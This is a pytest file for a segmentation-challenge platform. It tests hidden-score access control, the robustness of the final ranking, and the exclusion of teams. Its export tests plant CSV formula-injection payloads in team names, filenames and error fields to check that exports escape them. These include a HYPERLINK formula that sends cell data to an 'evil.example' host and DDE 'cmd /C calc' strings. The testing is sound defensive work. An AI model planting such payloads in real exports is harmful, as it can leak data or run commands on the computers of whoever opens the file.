"""Issue 22, the results side: hidden test scores stay hidden, no participant can stop or spoil
the final ranking, exports open safely in a spreadsheet, organizers can take a team off the
boards without deleting it.

Each test plays a participant or an organizer through the API and the pages (FastAPI's test
client), on SQLite and, where CI provides one, PostgreSQL.

Every route that returns scores, and what a participant of a hidden-board phase gets from it:

- ``GET /api/submissions/{id}``, ``GET /api/challenges/{slug}/phases/{phase}/submissions``,
  ``GET /api/submissions/{id}/results.csv``, the page ``/submissions/{id}`` and its
  ``/submissions/{id}/results.csv``, the page ``/challenges/{slug}/submissions``: the status and
  the reasons of failures, no score;
- ``GET /api/challenges/{slug}/phases/{phase}/leaderboard`` and its page: 404;
- the ranking report ``/challenges/{slug}/ranking/...``: 404 until the organizers run it;
- the exports ``/api/challenges/{slug}/admin/phases/{phase}/export`` (CSV, JSON) and the pages
  ``.../admin/phases/{phase}/export.csv|json``: organizers only (403).
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select, update
from test_platform_support import (
    BACKENDS,
    PASSWORD,
    LiveServer,
    Platform,
    build_platform,
    good_zip,
    platform_on,
    scored,
)

from covseg.platform.app import create_app
from covseg.platform.models import CaseResult, Submission, SubmissionStatus, Team, User
from covseg.platform.tasks import make_queue

SLUG = "tiny"

# ----------------------------------------------------------------------------------------------
# helpers


@pytest.fixture(params=BACKENDS)
def env(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Platform, TestClient]]:
    """A platform (alice and bob approved, each with a team; org organizes) and its client."""
    p = platform_on(request.param, tmp_path)
    with TestClient(create_app(p.settings, make_queue(p.settings, p.factory))) as client:
        yield p, client


@pytest.fixture
def sqlite_env(tmp_path: Path) -> Iterator[tuple[Platform, TestClient]]:
    """The same on SQLite only, for tests of files rather than of the database."""
    p = build_platform(tmp_path)
    with TestClient(create_app(p.settings, make_queue(p.settings, p.factory))) as client:
        yield p, client


def bearer(client: TestClient, email: str) -> dict[str, str]:
    """API headers of a fresh log-in."""
    r = client.post("/api/auth/login", json={"email": email, "password": PASSWORD})
    assert r.status_code == 200, r.text
    return {"authorization": f"Bearer {r.json()['token']}"}


def csrf_of(html: str) -> str:
    """The CSRF token of a page's first form."""
    match = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert match, html
    return match.group(1)


def page_client(p: Platform, client: TestClient, email: str) -> tuple[TestClient, str]:
    """A browser-like client logged in through the form, and its CSRF token."""
    browser = TestClient(client.app)
    token = csrf_of(browser.get("/login").text)
    form = {"email": email, "password": PASSWORD, "csrf_token": token}
    assert browser.post("/login", data=form, follow_redirects=False).status_code == 303
    return browser, csrf_of(browser.get(f"/challenges/{SLUG}").text)


#: Scores no page, timestamp or id can produce by chance (checked after removing timestamps).
MARKED = {"dice": 0.871357, "nsd": 0.765432, "nave": 0.345678, "hd95": 12.345678}
MARKED_SD = 0.054321
#: How they may be written: JSON (repr), CSV (repr), pages (%.4f, %.3f).
TELL_TALES = ("0.871", "0.765", "0.345", "12.34", "0.054")
_TIMESTAMP = re.compile(r"\d{4}-\d{2}-\d{2}[T ]\d{2}:\d{2}(:\d{2}(\.\d+)?)?")


def mark_scores(p: Platform, sub_id: int) -> None:
    """Give a scored submission recognisable per-case metrics and summary."""
    stats = {m: {"mean": v, "sd": MARKED_SD} for m, v in MARKED.items()}
    with p.db() as db, db.begin():
        sub = db.get(Submission, sub_id)
        assert sub is not None
        sub.summary = {"all": stats, "seen": stats, "unseen": stats}
        for r in sub.results:
            r.metrics = dict(MARKED)


def shows_scores(body: str) -> bool:
    """Whether a response body holds any of the marked scores, in any format."""
    text = _TIMESTAMP.sub("", body)
    return any(t in text for t in TELL_TALES)


# ----------------------------------------------------------------------------------------------
# item 1: a hidden board hides the scores of its submissions


def participant_views(sub_id: int, phase: str) -> dict[str, tuple[str, str]]:
    """Every route through which a team reads its own results: name -> (kind, URL)."""
    return {
        "API submission": ("api", f"/api/submissions/{sub_id}"),
        "API submission list": ("api", f"/api/challenges/{SLUG}/phases/{phase}/submissions"),
        "API results CSV": ("api", f"/api/submissions/{sub_id}/results.csv"),
        "submission page": ("page", f"/submissions/{sub_id}"),
        "submissions page": ("page", f"/challenges/{SLUG}/submissions"),
        "results CSV": ("page", f"/submissions/{sub_id}/results.csv"),
    }


def board_views(phase: str) -> dict[str, tuple[str, str]]:
    """The routes that show a phase's board."""
    return {
        "API leaderboard": ("api", f"/api/challenges/{SLUG}/phases/{phase}/leaderboard"),
        "leaderboard page": ("page", f"/challenges/{SLUG}/phases/{phase}/leaderboard"),
    }


def fetch(api: TestClient, headers: dict[str, str], page: TestClient, kind: str, url: str):
    """GET ``url`` as the API caller or as the logged-in browser."""
    return api.get(url, headers=headers) if kind == "api" else page.get(url)


def test_hidden_board_shows_participants_status_but_no_score(
    env: tuple[Platform, TestClient],
) -> None:
    p, client = env
    scored(p, "alice@example.org", "validation")
    test_id = scored(p, "alice@example.org", "test")
    mark_scores(p, test_id)
    alice = bearer(client, "alice@example.org")
    alice_page, _ = page_client(p, client, "alice@example.org")

    for name, (kind, url) in participant_views(test_id, "test").items():
        r = fetch(client, alice, alice_page, kind, url)
        assert r.status_code == 200, (name, r.text)
        assert "succeeded" in r.text or "ok" in r.text, name  # the status is there
        assert not shows_scores(r.text), f"{name} shows a hidden test score"
    detail = client.get(f"/api/submissions/{test_id}", headers=alice).json()
    assert detail["status"] == "succeeded" and detail["scores_hidden"] is True
    assert detail["summary"] == {} and all(r["metrics"] == {} for r in detail["results"])
    assert {r["status"] for r in detail["results"]} == {"ok"}
    header = client.get(f"/api/submissions/{test_id}/results.csv", headers=alice).text
    assert header.splitlines()[0] == "case,source,subset,status,error"
    assert "scores-hidden" in alice_page.get(f"/submissions/{test_id}").text
    for name, (kind, url) in board_views("test").items():
        r = fetch(client, alice, alice_page, kind, url)
        assert r.status_code == 404 and not shows_scores(r.text), name
    report = alice_page.get(f"/challenges/{SLUG}/ranking/report.html")
    assert report.status_code == 404  # the ranking report: only once run and published
    for url in (
        f"/api/challenges/{SLUG}/admin/phases/test/export?format=csv",
        f"/api/challenges/{SLUG}/admin/phases/test/export?format=json",
    ):
        assert client.get(url, headers=alice).status_code == 403
    for url in (
        f"/challenges/{SLUG}/admin/phases/test/export.csv",
        f"/challenges/{SLUG}/admin/phases/test/export.json",
    ):
        assert alice_page.get(url).status_code == 403

    # The organizer sees everything, before and after publishing.
    org, org_page = bearer(client, "org@example.org"), page_client(p, client, "org@example.org")[0]
    organizer_views = {
        k: v for k, v in participant_views(test_id, "test").items() if "list" not in k
    }
    organizer_views.pop("submissions page")  # a team's own list; organizers have no team
    organizer_views |= board_views("test")
    organizer_views["API export CSV"] = (
        "api",
        f"/api/challenges/{SLUG}/admin/phases/test/export?format=csv",
    )
    organizer_views["export JSON"] = ("page", f"/challenges/{SLUG}/admin/phases/test/export.json")
    for name, (kind, url) in organizer_views.items():
        r = fetch(client, org, org_page, kind, url)
        assert r.status_code == 200 and shows_scores(r.text), f"organizer: {name}"

    # Once the board is published the team sees its scores everywhere.
    r = client.post(
        f"/api/challenges/{SLUG}/admin/phases/test/board", json={"public": True}, headers=org
    )
    assert r.status_code == 204
    published = participant_views(test_id, "test") | board_views("test")
    published.pop("submissions page")  # the list page shows statuses only, on every phase
    for name, (kind, url) in published.items():
        r = fetch(client, alice, alice_page, kind, url)
        assert r.status_code == 200 and shows_scores(r.text), f"published: {name}"
    assert client.get(f"/api/submissions/{test_id}", headers=alice).json()["scores_hidden"] is False


def test_hidden_board_failed_submission_says_why_without_partial_scores(
    env: tuple[Platform, TestClient],
) -> None:
    p, client = env
    scored(p, "bob@example.org", "validation")
    test_id = scored(p, "bob@example.org", "test")
    mark_scores(p, test_id)
    reason = "1 case(s) could not be scored, e.g. case-B-001: mask is empty of voxels"
    with p.db() as db, db.begin():  # two cases scored, one failed: the submission failed
        db.execute(
            update(Submission)
            .where(Submission.id == test_id)
            .values(status=SubmissionStatus.failed, message=reason, summary={})
        )
        db.execute(
            update(CaseResult)
            .where(CaseResult.submission_id == test_id, CaseResult.case_id == "case-B-001")
            .values(status="failed", error="mask is empty of voxels", metrics={})
        )
    bob = bearer(client, "bob@example.org")
    bob_page, _ = page_client(p, client, "bob@example.org")
    for name, (kind, url) in participant_views(test_id, "test").items():
        r = fetch(client, bob, bob_page, kind, url)
        assert r.status_code == 200, name
        assert "failed" in r.text, name
        assert not shows_scores(r.text), f"{name} shows the scores of the cases that scored"
    detail = client.get(f"/api/submissions/{test_id}", headers=bob).json()
    assert detail["message"] == reason
    errors = {r["case_id"]: r["error"] for r in detail["results"]}
    assert errors["case-B-001"] == "mask is empty of voxels"


def test_submit_command_does_not_print_hidden_scores(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from covseg.cli import app

    p = build_platform(tmp_path)
    scored(p, "alice@example.org", "validation")
    zip_path = tmp_path / "masks.zip"
    zip_path.write_bytes(good_zip())
    live = LiveServer(p)
    try:
        args = ["submit", str(zip_path), "-c", SLUG, "-p", "test", "--server", live.url]
        login = ["--email", "alice@example.org"]  # the password is asked for (no option)
        result = CliRunner().invoke(app, [*args, *login], input=f"{PASSWORD}\n")
    finally:
        live.close()
    assert result.exit_code == 0, result.output
    assert "scores of the test phase stay hidden" in result.output
    assert "dice" not in result.output and "nsd" not in result.output


# ----------------------------------------------------------------------------------------------
# item 4: no participant can stop the final ranking


def rename_team(p: Platform, old: str, new: str) -> None:
    """Give a team a (hostile) name, as a participant could have chosen it."""
    with p.db() as db, db.begin():
        db.execute(update(Team).where(Team.name == old).values(name=new))


def both_teams_tested(p: Platform) -> None:
    """alice's and bob's teams each with a scored validation and test submission."""
    for shift, email in enumerate(("alice@example.org", "bob@example.org")):
        scored(p, email, "validation", shift)
        scored(p, email, "test", shift)


def rank(client: TestClient, org: dict[str, str], bootstrap: int = 0):
    """POST the final ranking as the organizer."""
    return client.post(
        f"/api/challenges/{SLUG}/admin/ranking", json={"bootstrap": bootstrap}, headers=org
    )


def test_mathtext_in_a_team_name_does_not_stop_the_ranking(
    sqlite_env: tuple[Platform, TestClient],
) -> None:
    p, client = sqlite_env
    hostile = r"T $\undefinedcmd$ x"
    rename_team(p, "team-alice", hostile)
    both_teams_tested(p)
    r = rank(client, bearer(client, "org@example.org"), bootstrap=2)
    assert r.status_code == 200, r.text
    assert "plots/blob_across_tasks.png" in r.json()["files"]
    report = client.get(f"/challenges/{SLUG}/ranking/report.html")
    assert report.status_code == 200 and hostile in report.text
    rankings = client.get(f"/challenges/{SLUG}/ranking/rankings.csv").text
    assert hostile in rankings


def test_plot_labels_are_literal_text() -> None:
    """A label holding ``$...$`` draws exactly like the same text with mathtext switched off."""
    from matplotlib.backends.backend_agg import FigureCanvasAgg
    from matplotlib.figure import Figure

    from covseg.ranking.plots import _literal

    def drawn(text: str, parse_math: bool) -> np.ndarray:
        fig = Figure(figsize=(3, 1), dpi=50)
        fig.text(0.05, 0.4, text, parse_math=parse_math)
        canvas = FigureCanvasAgg(fig)
        canvas.draw()
        return np.asarray(canvas.buffer_rgba()).copy()

    for name in (r"T $\undefinedcmd$ x", r"a\$b$", "$x^2$", r"\$", "plain"):
        assert np.array_equal(drawn(_literal(name), True), drawn(name, False)), name


def published_files(p: Platform) -> dict[str, bytes]:
    """The files of the published report, by name."""
    root = (p.settings.challenge_dir(SLUG) / "ranking").resolve()
    return {f.relative_to(root).as_posix(): f.read_bytes() for f in root.rglob("*") if f.is_file()}


def test_a_failing_ranking_leaves_the_published_report(
    sqlite_env: tuple[Platform, TestClient], monkeypatch: pytest.MonkeyPatch
) -> None:
    import covseg.ranking.report

    p, client = sqlite_env
    both_teams_tested(p)
    org = bearer(client, "org@example.org")
    assert rank(client, org).status_code == 200
    before = published_files(p)
    assert "report.html" in before and "rankings.csv" in before
    seen_during_run: list[dict[str, bytes]] = []

    def crash(result: Any, out_dir: Path, *args: Any) -> None:
        out_dir.mkdir(parents=True, exist_ok=True)
        (out_dir / "rankings.csv").write_text("half,written\n")
        seen_during_run.append(published_files(p))  # the old report, whole, while we run
        raise RuntimeError("plotting failed\n  on a second line")

    monkeypatch.setattr(covseg.ranking.report, "write_outputs", crash)
    r = rank(client, org)
    assert r.status_code == 422
    detail = r.json()["detail"]
    assert "\n" not in detail and "RuntimeError: plotting failed on a second line" in detail
    assert "published report is unchanged" in detail
    assert seen_during_run == [before]
    assert published_files(p) == before
    alice = bearer(client, "alice@example.org")
    assert (
        client.get(f"/challenges/{SLUG}/ranking/report.html", headers=alice).content
        == (before["report.html"])
    )
    # Nothing of the failed run is left beside the report.
    folder = p.settings.challenge_dir(SLUG)
    assert sorted(x.name for x in folder.iterdir() if x.name.startswith(".ranking")) == [
        (folder / "ranking").resolve().name
    ]
    # The organizer page reports the same line instead of a server error.
    org_page, token = page_client(p, client, "org@example.org")
    r = org_page.post(
        f"/challenges/{SLUG}/admin/ranking", data={"csrf_token": token, "bootstrap": "0"}
    )
    assert r.status_code == 422 and "published report is unchanged" in r.text


def test_a_failing_ranking_is_one_line_on_the_command_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from typer.testing import CliRunner

    import covseg.ranking
    from covseg.cli import app

    p = build_platform(tmp_path)
    both_teams_tested(p)

    def crash(table: Any, **kwargs: Any) -> None:
        raise MemoryError("no room for the bootstrap")

    monkeypatch.setattr(covseg.ranking, "run_ranking", crash)
    args = ["challenge", "rank", SLUG, "--data-dir", str(p.settings.data_dir)]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 1
    assert result.output.strip().splitlines() == [
        "error: the final ranking failed (MemoryError: no room for the bootstrap); "
        "the published report is unchanged"
    ]


def test_a_new_ranking_replaces_the_report_whole(sqlite_env: tuple[Platform, TestClient]) -> None:
    p, client = sqlite_env
    both_teams_tested(p)
    org = bearer(client, "org@example.org")
    assert rank(client, org, bootstrap=0).status_code == 200
    first = (p.settings.challenge_dir(SLUG) / "ranking").resolve()
    assert "blob_across_tasks.png" not in {f.name for f in first.rglob("*")}
    assert rank(client, org, bootstrap=2).status_code == 200
    second = (p.settings.challenge_dir(SLUG) / "ranking").resolve()
    assert second != first and not first.exists()  # swapped, and the old one removed
    assert (second / "plots" / "blob_across_tasks.png").is_file()
    assert client.get(f"/challenges/{SLUG}/ranking/plots/blob_across_tasks.png").status_code == 200


# ----------------------------------------------------------------------------------------------
# item 7: exports open safely in a spreadsheet


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("team-a", "team-a"),
        ("", ""),
        ("-0.5", "-0.5"),  # text that reads as a number is a number, never a formula
        ("+1e-3", "+1e-3"),
        ("-inf", "-inf"),
        (-0.5, -0.5),
        (3, 3),
        (None, None),
    ],
)
def test_safe_cell(cell: object, safe: object) -> None:
    from covseg.platform.spreadsheet import safe_cell

    assert safe_cell(cell) == safe


def test_neutralise_file_keeps_numbers_exact(tmp_path: Path) -> None:
    from covseg.platform.spreadsheet import neutralise_file

    path = tmp_path / "r.csv"
    path.write_text('algorithm,value\n=evil(),-0.123456789012345678\n"a,b",1e-300\n')
    assert neutralise_file(path)
    assert path.read_text() == 'algorithm,value\n\'=evil(),-0.123456789012345678\n"a,b",1e-300\n'
    assert not neutralise_file(path)  # already safe: left as it is


def csv_rows(text: str) -> list[dict[str, str]]:
    """A CSV body as dicts."""
    return list(csv.DictReader(io.StringIO(text)))


def test_exports_neutralise_formulas_and_keep_numbers(env: tuple[Platform, TestClient]) -> None:
    p, client = env
    team = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rename_team(p, "team-alice", team)
    sub_id = scored(p, "alice@example.org", "validation")
    with p.db() as db, db.begin():
        sub = db.get(Submission, sub_id)
        assert sub is not None
        sub.filename = "@SUM(1+1)*cmd.zip"
        sub.results[0].metrics = {**sub.results[0].metrics, "nave": -0.5}
        sub.results[0].error = "-1+cmd|' /C calc'!A0"
        db.execute(
            update(User).where(User.email == "alice@example.org").values(email="+1@example.org")
        )
    org = bearer(client, "org@example.org")
    org_page, _ = page_client(p, client, "org@example.org")
    exports = {
        "API export": client.get(
            f"/api/challenges/{SLUG}/admin/phases/validation/export?format=csv", headers=org
        ).text,
        "page export": org_page.get(f"/challenges/{SLUG}/admin/phases/validation/export.csv").text,
    }
    for name, text in exports.items():
        rows = csv_rows(text)
        assert {r["team"] for r in rows} == {"'" + team}, name
        assert {r["filename"] for r in rows} == {"'@SUM(1+1)*cmd.zip"}, name
        assert {r["submitted_by"] for r in rows} == {"'+1@example.org"}, name
        first = next(r for r in rows if r["case"] == "case-A-001")
        assert first["nave"] == "-0.5" and first["error"] == "'-1+cmd|' /C calc'!A0", name
        assert float(first["dice"]) == pytest.approx(1.0), name
    results = {
        "API results": client.get(f"/api/submissions/{sub_id}/results.csv", headers=org).text,
        "page results": org_page.get(f"/submissions/{sub_id}/results.csv").text,
    }
    for name, text in results.items():
        first = csv_rows(text)[0]
        assert first["nave"] == "-0.5" and first["error"] == "'-1+cmd|' /C calc'!A0", name
    # The JSON export is data, not a spreadsheet: it keeps the names as they are.
    rows = json.loads(
        client.get(
            f"/api/challenges/{SLUG}/admin/phases/validation/export?format=json", headers=org
        ).text
    )
    assert rows[0]["team"] == team and rows[0]["filename"] == "@SUM(1+1)*cmd.zip"


def test_ranking_csvs_neutralise_team_names(sqlite_env: tuple[Platform, TestClient]) -> None:
    p, client = sqlite_env
    rename_team(p, "team-bob", "-1+cmd|' /C calc'!A0")
    rename_team(p, "team-alice", "-1")  # reads as a number: harmless, left as it is
    both_teams_tested(p)
    assert rank(client, bearer(client, "org@example.org")).status_code == 200
    rows = csv_rows(client.get(f"/challenges/{SLUG}/ranking/rankings.csv").text)
    assert {r["algorithm"] for r in rows} == {"'-1+cmd|' /C calc'!A0", "-1"}
    for r in rows:
        float(r["value"])  # numbers stay numbers
    from covseg.platform.spreadsheet import safe_cell

    root = (p.settings.challenge_dir(SLUG) / "ranking").resolve()
    for path in root.glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text())):
            assert all(safe_cell(cell) == cell for cell in row), path.name


# ----------------------------------------------------------------------------------------------
# what organizers rely on: excluding a team, rejected participants leave the board


def board_teams(client: TestClient, phase: str = "validation") -> list[str]:
    """Team names on a public board, best first."""
    r = client.get(f"/api/challenges/{SLUG}/phases/{phase}/leaderboard")
    assert r.status_code == 200, r.text
    return [e["team"] for e in r.json()["entries"]]


def test_organizer_excludes_a_team_without_deleting_it(env: tuple[Platform, TestClient]) -> None:
    p, client = env
    both_teams_tested(p)
    org, bob = bearer(client, "org@example.org"), bearer(client, "bob@example.org")
    assert sorted(board_teams(client)) == ["team-alice", "team-bob"]
    teams = {
        t["name"]: t for t in client.get(f"/api/challenges/{SLUG}/admin/teams", headers=org).json()
    }
    bob_team = teams["team-bob"]
    assert bob_team["competing"] and bob_team["members"] == ["bob@example.org"]
    url = f"/api/challenges/{SLUG}/admin/teams/{bob_team['id']}/exclusion"
    body = {"excluded": True, "reason": "shared accounts with team-alice"}
    assert client.post(url, json=body, headers=bob).status_code == 403
    assert client.post(url, json=body).status_code == 401
    r = client.post(url, json=body, headers=org)
    assert r.status_code == 200 and r.json()["competing"] is False
    assert r.json()["exclusion_reason"] == "shared accounts with team-alice"

    assert board_teams(client) == ["team-alice"]
    client.post(
        f"/api/challenges/{SLUG}/admin/phases/test/board", json={"public": True}, headers=org
    )
    assert board_teams(client, "test") == ["team-alice"]
    r = rank(client, org)  # one team left: nothing to rank
    assert r.status_code == 400 and "at least two teams" in r.json()["detail"]
    # Nothing was deleted: the team still reads its submissions and may still submit.
    mine = client.get(f"/api/challenges/{SLUG}/phases/validation/submissions", headers=bob)
    assert mine.status_code == 200 and len(mine.json()) == 1
    assert client.get(f"/api/challenges/{SLUG}/team", headers=bob).json()["name"] == "team-bob"
    audit = client.get(f"/api/challenges/{SLUG}/admin/audit", headers=org).json()
    assert [(e["action"], e["detail"]) for e in audit[:2]] == [
        ("publish board", "test"),
        ("exclude team", "team-bob: shared accounts with team-alice"),
    ]

    # The team is told; the organizer page lists it and readmits it with one click.
    bob_page, _ = page_client(p, client, "bob@example.org")
    assert "shared accounts with team-alice" in bob_page.get(f"/challenges/{SLUG}").text
    org_page, token = page_client(p, client, "org@example.org")
    admin = org_page.get(f"/challenges/{SLUG}/admin").text
    assert 'data-team="team-bob" data-action="readmit"' in admin
    r = org_page.post(
        f"/challenges/{SLUG}/admin/teams/{bob_team['id']}/exclusion",
        data={"csrf_token": token, "excluded": "false"},
        follow_redirects=False,
    )
    assert r.status_code == 303
    assert sorted(board_teams(client)) == ["team-alice", "team-bob"]
    assert rank(client, org).status_code == 200
    audit = client.get(f"/api/challenges/{SLUG}/admin/audit", headers=org).json()
    assert [e["action"] for e in audit[:2]] == ["run final ranking", "readmit team"]
    r = org_page.post(
        f"/challenges/{SLUG}/admin/teams/{bob_team['id']}/exclusion",
        data={"excluded": "true"},
        follow_redirects=False,
    )
    assert r.status_code == 403  # the form needs its CSRF token


def test_rejected_participants_team_leaves_the_board(env: tuple[Platform, TestClient]) -> None:
    p, client = env
    both_teams_tested(p)
    org = bearer(client, "org@example.org")
    client.post(
        f"/api/challenges/{SLUG}/admin/phases/test/board", json={"public": True}, headers=org
    )
    registrations = client.get(f"/api/challenges/{SLUG}/admin/registrations", headers=org).json()
    bob_reg = next(r for r in registrations if r["user"]["email"] == "bob@example.org")
    r = client.post(
        f"/api/challenges/{SLUG}/admin/registrations/{bob_reg['id']}",
        json={"approve": False},
        headers=org,
    )
    assert r.status_code == 200 and r.json()["status"] == "rejected"
    assert board_teams(client) == ["team-alice"] and board_teams(client, "test") == ["team-alice"]
    teams = client.get(f"/api/challenges/{SLUG}/admin/teams", headers=org).json()
    bob_team = next(t for t in teams if t["name"] == "team-bob")
    assert bob_team["rejected_members"] == ["bob@example.org"] and not bob_team["competing"]
    assert rank(client, org).status_code == 400  # only one competing team
    # Approving again brings the team back.
    client.post(
        f"/api/challenges/{SLUG}/admin/registrations/{bob_reg['id']}",
        json={"approve": True},
        headers=org,
    )
    assert sorted(board_teams(client)) == ["team-alice", "team-bob"]


def test_exclusion_migration_keeps_existing_teams(tmp_path: Path) -> None:
    """A database made before the exclusion columns upgrades with every team competing."""
    from alembic import command
    from alembic.config import Config
    from sqlalchemy import text

    from covseg.platform.db import MIGRATIONS, make_engine, session_factory, upgrade

    engine = make_engine(f"sqlite:///{tmp_path / 'old.db'}")
    config = Config()
    config.set_main_option("script_location", str(MIGRATIONS))
    with engine.begin() as connection:
        config.attributes["connection"] = connection
        command.upgrade(config, "0001")
        connection.execute(
            text(
                "INSERT INTO challenges (slug, title, description, licence, auto_approve,"
                " ranking_published, created_at) VALUES ('c', 'C', '', '', 0, 0, '2026-01-01')"
            )
        )
        connection.execute(
            text(
                "INSERT INTO teams (challenge_id, name, join_code, lock_counter, created_at)"
                " VALUES (1, 'old-team', 'code', 0, '2026-01-01')"
            )
        )
    upgrade(engine)
    with session_factory(engine)() as db:
        team = db.scalar(select(Team))
        assert team is not None and team.excluded_at is None and team.exclusion_reason == ""
